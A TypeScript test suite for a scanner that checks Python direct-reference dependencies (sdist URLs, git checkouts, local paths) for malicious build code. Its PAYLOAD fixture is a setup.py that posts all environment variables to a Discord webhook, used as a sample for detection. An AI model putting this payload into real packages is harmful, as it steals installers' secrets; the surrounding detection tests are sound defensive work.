// Direct references are checked, not assumed: a URL to an sdist is downloaded from the local index
// server (hash-checked) and analyzed, a git reference is checked out from a local bare repository
// through file:// and analyzed, a local path inside the repository is read from disk; what cannot be
// fetched is `unresolved`, never `sdist`.

import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type AddressInfo, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import { makeSdist, makeWheel } from './helpers/archives.js';
import { startIndexServer, type IndexServer } from './helpers/index-server.js';
import { makeProject, runCli } from './helpers/project.js';
import { splitVcsUrl, fragmentHashes } from '../src/manifests/direct-reference.js';
import { lastLine } from '../src/direct/git.js';

const PAYLOAD = `
import os, requests
from setuptools import setup
requests.post("https://discord.com/api/webhooks/1234567890/AbCdEfGhIjKlMnOp", json=dict(os.environ))
setup(name="payload", version="1.0")
`;
const CLEAN = 'from setuptools import setup\nsetup(name="clean", version="1.0")\n';

const evil = makeSdist('urlevil', '1.0', { 'setup.py': PAYLOAD });
const good = makeSdist('urlgood', '1.0', { 'setup.py': CLEAN, 'pyproject.toml': '[build-system]\nrequires = ["setuptools", "buildhelper"]\nbuild-backend = "setuptools.build_meta"\n' });
const helper = makeSdist('buildhelper', '1.0', { 'setup.py': PAYLOAD });
const wheel = makeWheel('urlwheel', '1.0');
const withDeps = makeSdist('urldeps', '1.0', { 'PKG-INFO': 'Metadata-Version: 2.2\nName: urldeps\nVersion: 1.0\nRequires-Dist: urlevil\n' });
const sha = (d: Uint8Array) => createHash('sha256').update(d).digest('hex');

let hasGit = true;
try {
  execFileSync('git', ['--version'], { timeout: 10_000, stdio: 'ignore' });
} catch {
  hasGit = false;
}
const GIT_ENV = {
  ...process.env,
  GIT_CONFIG_NOSYSTEM: '1',
  GIT_CONFIG_GLOBAL: '/dev/null',
  GIT_AUTHOR_NAME: 't',
  GIT_AUTHOR_EMAIL: 't@example.invalid',
  GIT_COMMITTER_NAME: 't',
  GIT_COMMITTER_EMAIL: 't@example.invalid',
};
function git(cwd: string, ...args: string[]): string {
  return execFileSync('git', ['-c', 'init.defaultBranch=main', '-c', 'protocol.file.allow=always', ...args], { cwd, env: GIT_ENV, timeout: 30_000 }).toString().trim();
}

/** A bare repository at `bare` whose history is: clean setup.py (tag v1), then the payload (main). */
function makeRepo(bare: string): { v1: string; head: string } {
  const work = mkdtempSync(join(tmpdir(), 'sdist-guard-test-work-'));
  git(work, 'init', '-q');
  writeFileSync(join(work, 'setup.py'), CLEAN);
  git(work, 'add', '.');
  git(work, 'commit', '-qm', 'clean');
  git(work, 'tag', 'v1');
  const v1 = git(work, 'rev-parse', 'HEAD');
  writeFileSync(join(work, 'setup.py'), PAYLOAD);
  mkdirSync(join(work, 'sub'));
  writeFileSync(join(work, 'sub', 'setup.py'), CLEAN);
  git(work, 'add', '.');
  git(work, 'commit', '-qm', 'payload');
  const head = git(work, 'rev-parse', 'HEAD');
  git(tmpdir(), 'clone', '-q', '--bare', work, bare);
  rmSync(work, { recursive: true, force: true });
  return { v1, head };
}

type Dep = { name: string; status: string; reason: string; via?: string[]; sources: Array<{ line: number }> };

describe('direct references', () => {
  let server: IndexServer;
  beforeAll(async () => {
    server = await startIndexServer({ projects: { urlevil: [evil], urlgood: [good], buildhelper: [helper], urlwheel: [wheel], urldeps: [withDeps] } });
  });
  afterAll(async () => {
    await server.close();
  });

  async function scanJson(files: Record<string, string>, setup?: (dir: string) => void) {
    const project = makeProject(files);
    try {
      setup?.(project.dir);
      const before = server.requests.length;
      const run = await runCli(['scan', '.', '--index-url', server.indexUrl, '--format', 'json', '--python-version', '3.12', '--platform', 'linux'], { cwd: project.dir });
      const report = JSON.parse(run.stdout) as { dependencies: Dep[] };
      const by = (name: string) => report.dependencies.find((d) => d.name === name);
      return { code: run.code, report, by, requests: server.requests.slice(before), dir: project.dir };
    } finally {
      project.cleanup();
    }
  }

  it('reads VCS URLs and URL hashes as pip does', () => {
    expect(splitVcsUrl('git+https://u:p@host/org/repo.git@v1.0#egg=x&subdirectory=pkg')).toEqual({ vcs: 'git', url: 'https://u:p@host/org/repo.git', rev: 'v1.0', subdirectory: 'pkg' });
    expect(splitVcsUrl('git+file:///srv/repo')).toEqual({ vcs: 'git', url: 'file:///srv/repo' });
    expect(splitVcsUrl('hg+https://host/repo@abc')).toEqual({ vcs: 'hg', url: 'https://host/repo', rev: 'abc' });
    expect(splitVcsUrl('git+https://host/repo@')).toBeUndefined();
    expect(splitVcsUrl('git+git@github.com:org/repo.git')).toBeUndefined();
    expect(splitVcsUrl('https://host/x.tar.gz')).toBeUndefined();
    expect(fragmentHashes('https://h/x.tar.gz#sha256=ABCD&egg=x')).toEqual(['sha256:abcd']);
    expect(fragmentHashes('https://h/x.tar.gz')).toEqual([]);
  });

  it('downloads a direct URL to an sdist and analyzes it, and follows its build requirements', async () => {
    const { code, by, requests } = await scanJson({
      'requirements.txt': `urlevil @ ${server.url}/files/${evil.filename}\nurlgood @ ${server.url}/files/${good.filename}#sha256=${sha(good.data)}\n`,
    });
    expect(code).toBe(1);
    expect(by('urlevil')).toMatchObject({ status: 'suspicious', sources: [{ line: 1 }] });
    expect(by('urlgood')).toMatchObject({ status: 'sdist' });
    expect(by('buildhelper')).toMatchObject({ status: 'suspicious', via: ['urlgood', '(build) buildhelper'], sources: [{ line: 2 }] });
    expect(requests.filter((r) => r.path === `/files/${evil.filename}`)).toHaveLength(1);
  });

  it('follows what a fetched direct reference depends on, from its PKG-INFO or its build files', async () => {
    const { code, by, report } = await scanJson({
      'requirements.txt': `urldeps @ ${server.url}/files/${withDeps.filename}\n./libs/local\n`,
      'libs/local/setup.py': 'from setuptools import setup\nsetup(name="local", install_requires=["urlgood"])\n',
    });
    expect(code).toBe(1);
    expect(by('urlevil')).toMatchObject({ status: 'suspicious', via: ['urldeps', 'urlevil'], sources: [{ line: 1 }] });
    expect(by('urlgood')).toMatchObject({ status: 'sdist', via: ['local', '(setup.py) urlgood'], sources: [{ line: 2 }] });
    expect(by('buildhelper')).toMatchObject({ status: 'suspicious', via: ['local', '(setup.py) urlgood', '(build) buildhelper'] });
    expect((report as { diagnostics?: Array<{ message: string }> }).diagnostics?.filter((d) => /not followed/.test(d.message))).toEqual([]);
  });

  it('verifies the hash a direct URL pins, and a wheel URL stays a wheel', async () => {
    const { code, by } = await scanJson({ 'requirements.txt': `urlgood @ ${server.url}/files/${good.filename}#sha256=${'0'.repeat(64)}\nurlwheel @ ${server.url}/files/${wheel.filename}\n` });
    expect(code).toBe(1);
    expect(by('urlgood')).toMatchObject({ status: 'unresolved' });
    expect(by('urlgood')!.reason).toMatch(/hash/i);
    expect(by('urlwheel')).toMatchObject({ status: 'wheel' });
  });

  it('reads a local path inside the repository from disk, and never one outside it', async () => {
    const outside = mkdtempSync(join(tmpdir(), 'sdist-guard-test-outside-'));
    writeFileSync(join(outside, 'setup.py'), PAYLOAD);
    const inside = await scanJson({ 'requirements.txt': './libs/evil\n-e ./libs/clean\n', 'libs/evil/setup.py': PAYLOAD, 'libs/clean/setup.py': CLEAN });
    expect(inside.code).toBe(1);
    expect(inside.by('evil')).toMatchObject({ status: 'suspicious', sources: [{ line: 1 }] });
    expect(inside.by('clean')).toMatchObject({ status: 'sdist' });
    const out = await scanJson({ 'requirements.txt': `${outside}\n` });
    rmSync(outside, { recursive: true, force: true });
    expect(out.code).toBe(1);
    expect(out.report.dependencies[0]).toMatchObject({ status: 'unresolved' });
    expect(out.report.dependencies[0]!.reason).toMatch(/not checked: pip would build .* not inside the scanned repository/);
  });

  (hasGit ? it : it.skip)('clones a git reference at its pinned revision, without running its hooks, and analyzes it', async () => {
    // a user whose git configuration runs hooks (by hooksPath, and from templates) on checkout:
    // the scan's checkouts must run none of them
    const home = mkdtempSync(join(tmpdir(), 'sdist-guard-test-home-'));
    const marker = join(home, 'hook-ran');
    for (const dir of ['hooks', 'template/hooks']) {
      mkdirSync(join(home, dir), { recursive: true });
      writeFileSync(join(home, dir, 'post-checkout'), `#!/bin/sh\necho "$0" >> ${marker}\n`, { mode: 0o755 });
    }
    writeFileSync(join(home, '.gitconfig'), `[core]\n\thooksPath = ${join(home, 'hooks')}\n[init]\n\ttemplateDir = ${join(home, 'template')}\n`);
    const savedHome = process.env.HOME;
    // checkouts go to a temporary directory of this test's own, to see that none is left behind
    const savedTmp = process.env.TMPDIR;
    const ownTmp = mkdtempSync(join(tmpdir(), 'sdist-guard-test-tmp-'));
    let revs: { v1: string; head: string } = { v1: '', head: '' };
    const url = (dir: string) => `git+file://${join(dir, 'vendor', 'repo.git')}`;

    // pinned to the clean tag: clean; the branch head: the payload; a subdirectory at the head: clean
    const project = makeProject({});
    try {
      revs = makeRepo(join(project.dir, 'vendor', 'repo.git'));
      process.env.HOME = home;
      process.env.TMPDIR = ownTmp;
      const run = async (req: string) => {
        writeFileSync(join(project.dir, 'requirements.txt'), req);
        const r = await runCli(['scan', '.', '--index-url', server.indexUrl, '--format', 'json', '--python-version', '3.12', '--platform', 'linux'], { cwd: project.dir });
        return { code: r.code, deps: (JSON.parse(r.stdout) as { dependencies: Dep[] }).dependencies };
      };
      const tag = await run(`pkg @ ${url(project.dir)}@v1\n`);
      expect(tag.deps.find((d) => d.name === 'pkg')).toMatchObject({ status: 'sdist' });
      const head = await run(`pkg @ ${url(project.dir)}@main\n`);
      expect(head.code).toBe(1);
      expect(head.deps.find((d) => d.name === 'pkg')).toMatchObject({ status: 'suspicious' });
      const bySha = await run(`pkg @ ${url(project.dir)}@${revs.v1}\n`);
      expect(bySha.deps.find((d) => d.name === 'pkg')).toMatchObject({ status: 'sdist' });
      const sub = await run(`${url(project.dir)}@main#egg=pkg&subdirectory=sub\n`);
      expect(sub.deps.find((d) => d.name === 'pkg')).toMatchObject({ status: 'sdist' });
      const missing = await run(`pkg @ ${url(project.dir)}@no-such-tag\n`);
      expect(missing.deps.find((d) => d.name === 'pkg')).toMatchObject({ status: 'unresolved' });
      expect(missing.deps.find((d) => d.name === 'pkg')!.reason).toMatch(/^not checked: pip would clone and build .* the checkout failed/);
    } finally {
      process.env.HOME = savedHome;
      if (savedTmp === undefined) delete process.env.TMPDIR;
      else process.env.TMPDIR = savedTmp;
      project.cleanup();
    }
    expect(existsSync(marker)).toBe(false);
    // nothing is left behind in the temporary directory
    const left = readdirSync(ownTmp);
    rmSync(ownTmp, { recursive: true, force: true });
    rmSync(home, { recursive: true, force: true });
    expect(left).toEqual([]);
  });

  it('says what it cannot check: another VCS, a repository outside the scanned one', async () => {
    const { code, report } = await scanJson({ 'requirements.txt': 'hg+https://127.0.0.1:9/repo@abc#egg=hgpkg\ngit+file:///srv/elsewhere.git#egg=farpkg\n' });
    expect(code).toBe(1);
    const by = (n: string) => report.dependencies.find((d) => d.name === n)!;
    expect(by('hgpkg')).toMatchObject({ status: 'unresolved' });
    expect(by('hgpkg').reason).toMatch(/^not checked: pip would clone and build hg\+https:\/\/127\.0\.0\.1:9\/repo@abc#egg=hgpkg, and only git checkouts are fetched/);
    expect(by('farpkg')).toMatchObject({ status: 'unresolved' });
    expect(by('farpkg').reason).toMatch(/outside the scanned repository/);
  });

  (hasGit ? it : it.skip)('ends a checkout from a server that never answers at its deadline, and leaves no git behind', async () => {
    const sockets = new Set<Socket>();
    const silent = createServer((socket) => void sockets.add(socket));
    await new Promise<void>((r) => silent.listen(0, '127.0.0.1', () => r()));
    const port = (silent.address() as AddressInfo).port;
    const project = makeProject({ 'requirements.txt': `git+http://127.0.0.1:${port}/repo.git@v1#egg=stuck\n` });
    try {
      const r = await runCli(['scan', '.', '--index-url', server.indexUrl, '--format', 'json', '--timeout', '1'], { cwd: project.dir });
      expect(r.code).toBe(1);
      const dep = (JSON.parse(r.stdout) as { dependencies: Dep[] }).dependencies.find((d) => d.name === 'stuck')!;
      expect(dep).toMatchObject({ status: 'unresolved' });
      expect(dep.reason).toMatch(/not checked: pip would clone and build .* did not finish in time/);
      const left = execFileSync('ps', ['-eo', 'args'], { encoding: 'utf8', timeout: 10_000 }).split('\n').filter((l) => l.includes(`127.0.0.1:${port}`));
      expect(left).toEqual([]);
    } finally {
      project.cleanup();
      for (const s of sockets) s.destroy();
      await new Promise((r) => silent.close(r));
    }
  });

  (hasGit ? it : it.skip)('never shows the credentials of a git URL, also when git fails on it', async () => {
    const project = makeProject({ 'requirements.txt': 'git+http://deploy:s3cret-t0ken@127.0.0.1:9/repo.git@v1#egg=private\n' });
    try {
      const r = await runCli(['scan', '.', '--index-url', server.indexUrl, '--format', 'json'], { cwd: project.dir });
      expect(r.code).toBe(1);
      const dep = (JSON.parse(r.stdout) as { dependencies: Dep[] }).dependencies.find((d) => d.name === 'private')!;
      expect(dep.status).toBe('unresolved');
      expect(dep.reason).toMatch(/the checkout failed/);
      // (the requirement as written in the manifest is quoted as it is; what the scan says never repeats it)
      const report = JSON.parse(r.stdout) as { dependencies: Dep[]; diagnostics: unknown[] };
      expect(JSON.stringify([dep.reason, report.diagnostics]) + r.stderr).not.toMatch(/s3cret-t0ken/);
    // what git itself prints, when it quotes the URL
    expect(lastLine("Cloning...\nfatal: unable to access 'https://deploy:s3cret-t0ken@host/org/repo.git/': 403\n")).toBe("Cloning... fatal: unable to access 'https://***@host/org/repo.git/': 403");
    } finally {
      project.cleanup();
    }
  });
});
